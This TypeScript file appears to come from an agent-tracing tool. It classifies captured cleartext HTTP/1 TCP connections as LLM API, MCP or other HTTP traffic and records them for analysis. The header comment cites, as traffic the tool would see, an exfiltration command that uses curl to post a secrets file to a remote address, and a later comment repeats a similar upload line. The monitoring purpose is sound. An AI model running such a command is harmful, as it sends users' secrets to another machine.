/**
 * Cleartext HTTP/1 over TCP, from the `ipc` rows of kind `tcp`: each connection's two byte
 * streams (read from the writer's side when it was traced, else from the reader's: see
 * `mcp/sql/ipc_streams.sql`), told apart by how they begin — the stream that starts with a
 * status line is the server's, the one that starts with a request line the client's — and
 * judged once for everyone: a connection whose client sent a request of an LLM API
 * (`llm/route.ts` `routeApi`: a model call, a token count or a model listing) is an LLM
 * connection, read like a TLS connection into the HTTP and LLM tables (`cleartextHttpConnections`,
 * the client's pid as the connection's, `conn_gen` -1); one whose client sent a JSON-RPC request
 * body to that server (on it or another connection: `isMcp`) is MCP's, read by MCP over HTTP
 * (`mcp/http_messages.ts`); any other plain HTTP/1 a traced client makes, on loopback or to
 * another machine (a local dev server, a download, a REST API, an upload — exfiltration with
 * `curl -d @secrets.txt http://10.0.0.5:8080/upload`, or to a service on 127.0.0.1), is read
 * into `http_exchanges` like an LLM connection's, without LLM calls (`isOtherHttp`). Never two
 * of them. MCP is told by what the client sent, not by where the server is.
 *
 * This is how an agent talks to a model server over plain HTTP: on the same machine over
 * loopback (Ollama, LM Studio, vLLM, llama.cpp's server, a LiteLLM proxy), or on another one
 * (Ollama on a LAN GPU box, vLLM in a cluster). The capture records a loopback socket whose
 * first call is an HTTP/1 request or status line, and a socket to any other address whose first
 * call is an HTTP/1 request (`bpf/ipc.bpf.h`), with both ends' addresses and ports, and masks
 * their secret headers as in `tls`. A connection is on loopback when its server's address is
 * (127.0.0.0/8, ::1; rows from before the addresses were recorded were all on loopback); its
 * exchanges' `host` is the Host header, else the server's address and port.
 */
import type { DuckDBConnection } from "@duckdb/node-api";
import {
  createHttp1RequestParser,
  HTTP2_PREFACE,
  originForm,
  startsWithHttp2Preface,
  startsWithHttp2Settings,
} from "../protocols/mod.ts";
import { readSql } from "../kit/sql_runner.ts";
import { type Connection, rebuildConnections, type TlsView } from "./byte_streams.ts";
import { routeApi } from "./llm/route.ts";
import type { ProblemRow } from "./schema.ts";

/** One `ipc` row of kind `tcp`, as `mcp/sql/ipc_streams.sql` gives it. */
export interface TcpChunk {
  recording: string;
  pid: number;
  /** the connection: the same for both ends' rows */
  conn: bigint;
  /** the end the bytes were written on */
  channel: bigint;
  direction: string;
  /** call number per (pid, inode, direction) (0 when not known) */
  seq?: bigint;
  /** the call's length (more than `data` when cut) */
  len?: bigint;
  ts_ns: bigint;
  peer_pid: number | null;
  local_port: number | null;
  remote_port: number | null;
  /** the socket's own address and the other end's (null: recorded before they were) */
  local_addr?: string | null;
  remote_addr?: string | null;
  data: Uint8Array;
  truncated: boolean;
  lost: bigint;
}

/** One side's byte stream of a connection, as recorded on one end. */
export interface TcpStream {
  chunks: TcpChunk[];
  /** the process that wrote these bytes (null: not traced) */
  sender: number | null;
  receiver: number | null;
  /** the port of the server end, as this stream's rows know it */
  serverPort: number | null;
}

/** A cleartext TCP connection's streams, sorted out. */
export interface TcpConnection {
  recording: string;
  conn: bigint;
  /** every row of the connection */
  rows: TcpChunk[];
  /** cleartext HTTP/2 (h2c): its streams are not sorted out */
  http2: boolean;
  client?: TcpStream;
  server?: TcpStream;
  /** streams not read: the start not recorded, or a second one of the same side */
  unread: { stream: TcpStream; why: string }[];
  clientPid: number | null;
  serverPid: number | null;
  /** the server's port */
  port: number | null;
  /** the server's address (null: not recorded, a recording from before the addresses) */
  addr: string | null;
  /** whether the server is on loopback (127.0.0.0/8, ::1), or its address is not known */
  loopback: boolean;
  /**
   * A proxy's tunnel (`HTTPS_PROXY`): the client asked `CONNECT host:port` and what follows
   * the proxy's answer is the tunnelled protocol's (TLS: read from the TLS hooks, not here).
   * `target` is the CONNECT's `host:port`, null when the request was not recorded (captures
   * before the kernel side knew CONNECT began at the proxy's answer). Never MCP; an LLM
   * connection only when it carries cleartext HTTP/1 (`http`: an `http://` URL tunnelled, as
   * undici's `ProxyAgent` does for Qwen Code or Gemini CLI given `HTTPS_PROXY`), whose
   * `client` and `server` streams are then the tunnel's, after the CONNECT and its answer.
   * `at`: when the CONNECT was sent (its first call's time), with `target`.
   */
  tunnel?: { target: string | null; at?: bigint; http?: true };
}

/** Whether an IP address (as `ipc` has it) is a loopback one: 127.0.0.0/8, ::1, ::ffff:127.x. */
export function isLoopbackAddr(addr: string): boolean {
  const a = addr.toLowerCase().replace(/^::ffff:/, "");
  return a === "::1" || /^127\./.test(a);
}

/** Where a server is, as a Host header names it: `10.0.0.5:11434`, `[fd00::5]:8000`. */
export function hostOf(addr: string, port: number | null): string {
  const h = addr.includes(":") ? `[${addr}]` : addr;
  return port === null ? h : `${h}:${port}`;
}

/** A connection as problem messages name it. */
export function connectionName(t: TcpConnection): string {
  const where = t.loopback
    ? `loopback HTTP connection ${t.conn}`
    : `HTTP connection ${t.conn} to ${hostOf(t.addr!, t.port)}`;
  return `${where} (client pid ${t.clientPid ?? "?"}, port ${t.port ?? "?"})`;
}

/** Bytes of a stream's start looked at for its first line. */
const START_BYTES = 8192;

/**
 * A stream's first line (empty lines before it skipped, RFC 9112 2.2), up to START_BYTES, and
 * whether it ended within them.
 */
function firstLine(chunks: TcpChunk[]): { line: string; ended: boolean } {
  let line = "";
  let ended = false;
  read: for (const c of chunks) {
    for (const b of c.data) {
      if (b === 10 && line.replace(/\r$/, "") !== "") {
        ended = true;
        break read;
      }
      line = b === 10 ? "" : line + String.fromCharCode(b);
      if (line.length >= START_BYTES) break read;
    }
  }
  return { line: line.replace(/\r$/, ""), ended };
}

/**
 * What a stream begins with: a status line (the server's answers), a request line (the
 * client's requests; empty lines before it are allowed, RFC 9112 2.2), or neither (its start
 * was not recorded). Read from the first line of its first calls; a line longer than
 * START_BYTES is judged by its method and the start of its target.
 */
function streamStart(chunks: TcpChunk[]): "status" | "request" | null {
  const { line, ended } = firstLine(chunks);
  if (/^HTTP\/\d\.\d \d{3}( |$)/.test(line)) return "status";
  const method = /^[!#$%&'*+.^_`|~0-9A-Za-z-]+ /;
  const request = ended ? /^[^ ]+ [^\s]+ HTTP\/\d\.\d$/ : /^[^ ]+ [^\s]/;
  return method.test(line) && request.test(line) ? "request" : null;
}

/**
 * Whether a stream starts as cleartext HTTP/2 (h2c with prior knowledge): the client's preface,
 * or the SETTINGS frame a server sends first.
 */
function isHttp2(chunks: TcpChunk[]): boolean {
  const head = new Uint8Array(HTTP2_PREFACE.length);
  let n = 0;
  for (const c of chunks) {
    const k = Math.min(c.data.length, head.length - n);
    head.set(c.data.subarray(0, k), n);
    n += k;
    if (n === head.length) break;
  }
  const b = head.subarray(0, n);
  return startsWithHttp2Preface(b, true) || startsWithHttp2Settings(b) === 1;
}

/** The target of a client stream that begins with `CONNECT host:port HTTP/1.x`, else null. */
function connectTarget(chunks: TcpChunk[]): string | null {
  return /^CONNECT ([^\s]+) HTTP\/\d\.\d$/.exec(firstLine(chunks).line)?.[1] ?? null;
}

/**
 * A stream's chunks after its first message head (through its first empty line), the chunk it
 * ends in cut there, their `seq` counted from the first; null when the head does not end in
 * them.
 */
function afterHead(chunks: TcpChunk[]): TcpChunk[] | null {
  let started = false; // a line with content seen
  let blank = true; // the current line has nothing but CR so far
  for (let i = 0; i < chunks.length; i++) {
    const d = chunks[i].data;
    for (let j = 0; j < d.length; j++) {
      const b = d[j];
      let end = false;
      if (b === 10) {
        end = blank && started;
        if (!blank) started = true;
        blank = true;
      } else if (b !== 13) blank = false;
      if (end) {
        const c = chunks[i];
        const cut = j + 1;
        const rest = cut === d.length ? [] : [{
          ...c,
          data: d.subarray(cut),
          ...(c.len === undefined ? {} : { len: c.len - BigInt(cut) }),
        }];
        // numbered from 0 again, as a stream's calls are (a gap after it is still one)
        const after = [...rest, ...chunks.slice(i + 1)];
        const base = after[0]?.seq;
        return base === undefined
          ? after
          : after.map((x) => (x.seq === undefined ? x : { ...x, seq: x.seq - base }));
      }
    }
  }
  return null;
}

/**
 * What a CONNECT tunnel carries when it is cleartext HTTP/1: the client's stream after the
 * CONNECT's head, beginning with a request line, and the server's after the proxy's 2xx head
 * (none when nothing followed it); null when the tunnel carries anything else (TLS).
 */
function tunnelledHttp(
  client: TcpStream,
  server: TcpStream | undefined,
): { client: TcpStream; server?: TcpStream } | null {
  const sent = afterHead(client.chunks)?.filter((c) => c.data.length > 0);
  if (!sent?.length || streamStart(sent) !== "request") return null;
  const out: { client: TcpStream; server?: TcpStream } = { client: { ...client, chunks: sent } };
  if (server && startsWith2xx(server.chunks)) {
    const answers = afterHead(server.chunks)?.filter((c) => c.data.length > 0) ?? [];
    if (answers.length && streamStart(answers) !== "status") return null;
    if (answers.length) out.server = { ...server, chunks: answers };
  }
  return out;
}

/** Whether a server stream begins with a 2xx status line (a proxy's yes to a CONNECT). */
function startsWith2xx(chunks: TcpChunk[]): boolean {
  return /^HTTP\/\d\.\d 2\d\d( |$)/.test(firstLine(chunks).line);
}

/**
 * Whether a stream begins with a TLS handshake record's header (type 22, version 3.0 to 3.4):
 * a ClientHello or ServerHello, the first bytes through a proxy's tunnel.
 */
function startsWithTlsRecord(chunks: TcpChunk[]): boolean {
  const d = chunks.find((c) => c.data.length > 0)?.data;
  return d !== undefined && d.length >= 3 && d[0] === 0x16 && d[1] === 3 && d[2] <= 4;
}

/** A stream's first bytes as a problem message shows them. */
export function firstBytes(chunks: TcpChunk[]): string {
  const c = chunks.find((c) => c.data.length > 0)!;
  return JSON.stringify(String.fromCharCode(...c.data.subarray(0, 24)));
}

/** The rows of `chunks` by connection (in the order their first rows come). */
export function groupTcpConnections(chunks: TcpChunk[]): TcpChunk[][] {
  const conns = new Map<string, TcpChunk[]>();
  for (const c of chunks) {
    const k = `${c.recording}\0${c.conn}`;
    const list = conns.get(k);
    if (list) list.push(c);
    else conns.set(k, [c]);
  }
  return [...conns.values()];
}

/** Sorts out one connection's rows (all of the same `conn`) into its client and server streams. */
export function splitTcpConnection(list: TcpChunk[]): TcpConnection {
  const byStream = new Map<string, TcpChunk[]>();
  for (const c of list) {
    const k = `${c.channel}:${c.pid}:${c.direction}`;
    const s = byStream.get(k);
    if (s) s.push(c);
    else byStream.set(k, [c]);
  }
  const out: TcpConnection = {
    recording: list[0].recording,
    conn: list[0].conn,
    rows: list,
    http2: false,
    unread: [],
    clientPid: null,
    serverPid: null,
    port: null,
    addr: null,
    loopback: true,
  };
  const streams = [...byStream.values()].filter((s) => s.some((c) => c.data.length > 0));
  if (streams.some(isHttp2)) {
    const addr = list.find((c) => c.remote_addr)?.remote_addr ?? null;
    return { ...out, http2: true, addr, loopback: addr === null || isLoopbackAddr(addr) };
  }
  for (const s of streams) {
    const wrote = s[0].direction === "write";
    const stream: TcpStream = {
      chunks: s,
      sender: wrote ? s[0].pid : s[0].peer_pid,
      receiver: wrote ? s[0].peer_pid : s[0].pid,
      serverPort: null,
    };
    const start = streamStart(s);
    if (start === "status") {
      // the server's answers: its own port is local when it wrote them
      stream.serverPort = wrote ? s[0].local_port : s[0].remote_port;
      if (out.server) out.unread.push({ stream, why: "a second stream of answers" });
      else out.server = stream;
    } else if (start === "request") {
      stream.serverPort = wrote ? s[0].remote_port : s[0].local_port;
      if (out.client) out.unread.push({ stream, why: "a second stream of requests" });
      else out.client = stream;
    } else {
      out.unread.push({
        stream,
        why: `it begins with ${firstBytes(s)}, neither an HTTP request nor a status line: ` +
          "its start was not recorded",
      });
    }
  }
  const target = out.client ? connectTarget(out.client.chunks) : null;
  if (target !== null) {
    // a proxy's tunnel: the CONNECT and the answer recorded, maybe the first tunnelled bytes,
    // or all of them when they are cleartext HTTP (the kernel side stops at TLS only)
    const at = out.client!.chunks.find((c) => c.data.length > 0)!.ts_ns;
    out.tunnel = { target, at };
    out.unread = [];
    const inner = tunnelledHttp(out.client!, out.server);
    if (inner) {
      out.tunnel.http = true;
      out.client = inner.client;
      out.server = inner.server;
    }
  } else if (
    !out.client && out.server && startsWith2xx(out.server.chunks) && out.unread.length &&
    out.unread.every(({ stream }) => startsWithTlsRecord(stream.chunks))
  ) {
    // a recording made before the kernel side knew CONNECT: the socket was judged by the
    // proxy's 200, so the CONNECT is missing and the tunnel's TLS bytes were recorded
    out.tunnel = { target: null };
    out.client = out.unread[0].stream;
    out.unread = [];
  }
  out.clientPid = out.client?.sender ?? out.server?.receiver ?? null;
  out.serverPid = out.server?.sender ?? out.client?.receiver ?? null;
  out.port = out.client?.serverPort ?? out.server?.serverPort ?? null;
  // the server's address: where its client sent, or where it answered from
  const at = (pid: number | null, col: "local_addr" | "remote_addr") =>
    pid === null ? null : list.find((c) => c.pid === pid && c[col])?.[col] ?? null;
  out.addr = at(out.clientPid, "remote_addr") ?? at(out.serverPid, "local_addr") ??
    list.find((c) => c.remote_addr)?.remote_addr ?? null;
  out.loopback = out.addr === null || isLoopbackAddr(out.addr);
  return out;
}

/**
 * Whether a client stream carries a request of an LLM API (a model call, a token count, a model
 * listing: `routeApi`), read from its HTTP/1 request heads up to the first damage.
 */
export function speaksLlmApi(client: TcpStream | undefined): boolean {
  if (!client) return false;
  let found = false;
  let failed = false;
  const p = createHttp1RequestParser({
    onHead: (h) => void (found ||= routeApi(h.method, originForm(h.target ?? "")) !== null),
    onError: () => void (failed = true),
  });
  for (const c of client.chunks) {
    p.feed(c.data);
    if (found || failed || c.truncated || c.lost > 0n) break;
  }
  return found;
}

/**
 * Whether a connection is an LLM API's (read into the HTTP and LLM tables, not as MCP): also
 * one through a proxy's CONNECT tunnel that carries cleartext HTTP.
 */
export function isLlmConnection(t: TcpConnection): boolean {
  return !t.http2 && (!t.tunnel || t.tunnel.http === true) && speaksLlmApi(t.client);
}

/** Bytes of each request body looked at for JSON-RPC. */
const BODY_PEEK = 4096;

/**
 * Whether a client stream POSTs a JSON-RPC request body, or sends a request with streamable
 * HTTP's session headers (`Mcp-Session-Id`, `MCP-Protocol-Version`: a capture attached
 * mid-session may see only the session's GET event stream), up to the first damage.
 */
export function sendsJsonRpc(client: TcpStream | undefined): boolean {
  if (!client) return false;
  let found = false;
  let failed = false;
  let body = "";
  const p = createHttp1RequestParser({
    onHead: (h) => {
      body = "";
      found ||= !!(h.lookup["mcp-session-id"]?.[0] || h.lookup["mcp-protocol-version"]?.[0]);
    },
    onBody: (c) => {
      if (body.length < BODY_PEEK) body += String.fromCharCode(...c.data.subarray(0, BODY_PEEK));
    },
    onMessageEnd: () => void (found ||= /^\s*[[{]/.test(body) && body.includes('"jsonrpc"')),
    onError: () => void (failed = true),
  });
  for (const c of client.chunks) {
    p.feed(c.data);
    if (found || failed || c.truncated || c.lost > 0n) break;
  }
  return found;
}

/**
 * `recording client-pid address port`: the server a connection's client spoke to (on loopback
 * by its port alone: `localhost` may be reached at 127.0.0.1 on one connection, ::1 on another).
 */
export const serverKey = (t: TcpConnection) =>
  `${t.recording} ${t.clientPid} ${t.loopback ? "loopback" : t.addr} ${t.port}`;

/**
 * The MCP servers among connections (`serverKey`): those a client sent a JSON-RPC request body
 * to (`{` or `[` and `"jsonrpc"`: streamable HTTP's POSTs, HTTP+SSE's POSTs to its endpoint).
 * `into`: the set to add them to.
 */
export function addMcpServer(t: TcpConnection, into: Set<string>): void {
  if (!t.http2 && !t.tunnel && sendsJsonRpc(t.client)) into.add(serverKey(t));
}

/**
 * Whether a connection is MCP's, by the rule `mcp/http_messages.ts` reads it by, on loopback
 * as off it: its client sent a JSON-RPC request body to that server, on it or on another
 * connection (HTTP+SSE's GET stream carries none; `mcpServers`: `addMcpServer`'s keys).
 */
export function isMcp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
  return !t.http2 && !t.tunnel && mcpServers.has(serverKey(t));
}

/**
 * Whether a connection is plain HTTP/1 that is neither an LLM API's nor MCP's, on loopback or
 * to another machine (a local dev server, a download, a REST API, an upload:
 * `curl -d @file http://10.0.0.5:8080/upload`), made by a traced client: read into
 * `http_exchanges` (no LLM calls) like an LLM connection.
 */
export function isOtherHttp(t: TcpConnection, mcpServers: ReadonlySet<string>): boolean {
  return !t.http2 && !t.tunnel && t.client !== undefined && t.clientPid !== null &&
    !isLlmConnection(t) && !isMcp(t, mcpServers);
}

/** A connection's rows and the connection rebuilt from them (as `tls_stream.ts` gives them). */
export interface ConnectionRows {
  view: TlsView;
  conn: Connection;
}

/** `conn_gen` of a connection read from `ipc` (cleartext HTTP over TCP), not from `tls`. */
export const CLEARTEXT_GEN = -1;

/** The problems source of a cleartext connection. */
export function cleartextLabel(pid: number, conn: bigint): string {
  return `cleartext tcp pid ${pid} conn ${conn}`;
}

/**
 * The TLS-shaped rows of an LLM connection: the client's stream as the client's writes, the
 * server's as its reads, each call with its `seq` (a skipped one is a break), cut and lost
 * bytes; `pid` the client's, `conn_id` the connection, `conn_gen` CLEARTEXT_GEN.
 */
export function cleartextConnection(t: TcpConnection): ConnectionRows {
  if (t.clientPid === null) throw new Error("cleartext_http: a connection without its client");
  const pid = t.clientPid;
  const rows: { s: TcpStream; direction: "write" | "read" }[] = [];
  if (t.client) rows.push({ s: t.client, direction: "write" });
  if (t.server) rows.push({ s: t.server, direction: "read" });
  const all = rows.flatMap(({ s, direction }) =>
    s.chunks.map((c, i) => ({ c, direction, seq: c.seq ?? BigInt(i) }))
  );
  const view: TlsView = {
    length: all.length,
    pid: all.map(() => pid),
    connId: all.map(() => t.conn),
    connGen: all.map(() => CLEARTEXT_GEN),
    direction: all.map((r) => r.direction),
    seq: all.map((r) => r.seq),
    len: all.map((r) => r.c.len ?? BigInt(r.c.data.length)),
    data: all.map((r) => r.c.data),
    truncated: all.map((r) => r.c.truncated),
    lost: all.map((r) => r.c.lost),
    ts: all.map((r) => r.c.ts_ns),
    lib: all.map(() => "tcp"),
  };
  const conns = rebuildConnections(view);
  if (conns.length !== 1) throw new Error(`cleartext_http: ${conns.length} connections in one`);
  // through a proxy's tunnel: where the CONNECT asked to go, not the proxy
  const host = t.tunnel?.target ?? (t.addr === null ? undefined : hostOf(t.addr, t.port));
  return { view, conn: { ...conns[0], cleartext: true, ...(host ? { host } : {}) } };
}

/** The problems of an LLM connection's streams that are not read. */
export function unreadProblems(t: TcpConnection): ProblemRow[] {
  return t.unread.map(({ stream, why }) => {
    const bytes = stream.chunks.reduce((n, c) => n + c.data.length, 0);
    const end = stream.chunks[0];
    const seen = end.direction === "write" ? "written" : `as read by pid ${end.pid}`;
    return {
      recording: t.recording,
      source: cleartextLabel(t.clientPid ?? end.pid, t.conn),
      kind: "protocol",
      message: `${connectionName(t)}: the ${bytes} bytes pid ${stream.sender ?? "?"} sent ` +
        `(${seen}) are not read: ${why}`,
      exchange_id: null,
    };
  });
}

const num = (v: unknown) => (v === null || v === undefined ? null : Number(v));

/** A `tcp` row of the streams query as a chunk. */
export function tcpChunk(o: Record<string, unknown>): TcpChunk {
  return {
    recording: String(o.recording),
    pid: Number(o.pid),
    conn: BigInt(o.conn as bigint),
    channel: BigInt(o.channel as bigint),
    direction: String(o.direction),
    seq: o.seq === null || o.seq === undefined ? undefined : BigInt(o.seq as bigint),
    len: o.len === null || o.len === undefined ? undefined : BigInt(o.len as bigint),
    ts_ns: BigInt(o.ts_ns as bigint),
    peer_pid: num(o.peer_pid),
    local_port: num(o.local_port),
    remote_port: num(o.remote_port),
    local_addr: o.local_addr === null || o.local_addr === undefined ? null : String(o.local_addr),
    remote_addr: o.remote_addr === null || o.remote_addr === undefined
      ? null
      : String(o.remote_addr),
    data: (o.data as { bytes: Uint8Array }).bytes,
    truncated: o.truncated === true,
    lost: BigInt((o.lost ?? 0n) as bigint),
  };
}

/** Each connection of the `ipc` TCP rows in turn (one connection's rows held at a time). */
async function* tcpConnections(c: DuckDBConnection): AsyncGenerator<TcpConnection> {
  // the `ipc` byte streams (`mcp/sql/ipc_streams.sql`), its TCP rows, by connection
  const streams = readSql(new URL("./mcp/sql/", import.meta.url), "ipc_streams");
  const result = await c.stream(streams, { kind: "tcp" });
  let list: TcpChunk[] = [];
  while (true) {
    const chunk = await result.fetchChunk();
    if (!chunk || chunk.rowCount === 0) break;
    for (const o of chunk.getRowObjects(result.deduplicatedColumnNames())) {
      const row = tcpChunk(o as Record<string, unknown>);
      if (list.length && (row.conn !== list[0].conn || row.recording !== list[0].recording)) {
        yield splitTcpConnection(list);
        list = [];
      }
      list.push(row);
    }
  }
  if (list.length) yield splitTcpConnection(list);
}

/**
 * The cleartext TCP connections of `ipc` read into the HTTP tables, one at a time, shaped as TLS
 * connections: the LLM connections, and the other plain HTTP/1 a traced client made that is
 * not MCP's (`isOtherHttp`: its exchanges, no LLM calls), on loopback or not. Their streams
 * that cannot be read go to `problems`. MCP's servers are found by a first pass over the rows
 * (a client's JSON-RPC request body may come on a later connection than its HTTP+SSE stream).
 */
export async function* cleartextHttpConnections(
  c: DuckDBConnection,
  problems: ProblemRow[],
  /** given every connection as it comes (`proxy_requests.ts` reads its requests to a proxy) */
  each?: (t: TcpConnection) => void,
): AsyncGenerator<ConnectionRows> {
  const mcpServers = new Set<string>();
  for await (const t of tcpConnections(c)) addMcpServer(t, mcpServers);
  for await (const t of tcpConnections(c)) {
    each?.(t);
    const read = cleartextRead(t, mcpServers, problems);
    if (read) yield read;
  }
}

/**
 * What the HTTP tables make of one cleartext connection (`mcpServers`: `addMcpServer`'s keys):
 * its rows shaped as a TLS connection's when it is read (an LLM connection, or other plain HTTP
 * a traced client made), with the problems of its streams that cannot be read; null when it is
 * not the HTTP tables' (MCP's, a tunnel, h2c: `mcp/http_messages.ts` says what it makes of
 * them). Said in `problems`, not read: an LLM connection whose client was not traced, plain
 * HTTP a traced process served to a client that was not traced (its exchanges would be
 * nobody's, or the server's taken for the client's), and the streams of any other connection
 * that cannot be read (its requests' start not recorded).
 */
export function cleartextRead(
  t: TcpConnection,
  mcpServers: ReadonlySet<string>,
  problems: ProblemRow[],
): ConnectionRows | null {
  if (isOtherHttp(t, mcpServers)) {
    for (const p of unreadProblems(t)) problems.push(p);
    return cleartextConnection(t);
  }
  const bytes = () => t.rows.reduce((n, c) => n + c.data.length, 0);
  if (!isLlmConnection(t)) {
    if (t.http2 || t.tunnel || isMcp(t, mcpServers)) return null;
    if (t.clientPid === null && t.serverPid !== null) {
      const where = t.loopback ? "on this machine" : "elsewhere";
      problems.push({
        recording: t.recording,
        source: cleartextLabel(t.serverPid, t.conn),
        kind: "protocol",
        message: `${connectionName(t)}: plain HTTP pid ${t.serverPid} served to a client ` +
          `${where} that was not traced: its ${bytes()} bytes are not read into http_exchanges`,
        exchange_id: null,
      });
    } else for (const p of unreadProblems(t)) problems.push(p);
    return null;
  }
  if (t.clientPid === null) {
    // its calls would be nobody's (the server's pid is not the caller's): said, not guessed
    problems.push({
      recording: t.recording,
      source: cleartextLabel(t.rows[0].pid, t.conn),
      kind: "protocol",
      message: `${connectionName(t)} carries an LLM API's requests from a process that ` +
        `was not traced (seen only from pid ${t.rows[0].pid}'s end): its ${bytes()} bytes are ` +
        "not read into llm_calls",
      exchange_id: null,
    });
    return null;
  }
  for (const p of unreadProblems(t)) problems.push(p);
  return cleartextConnection(t);
}
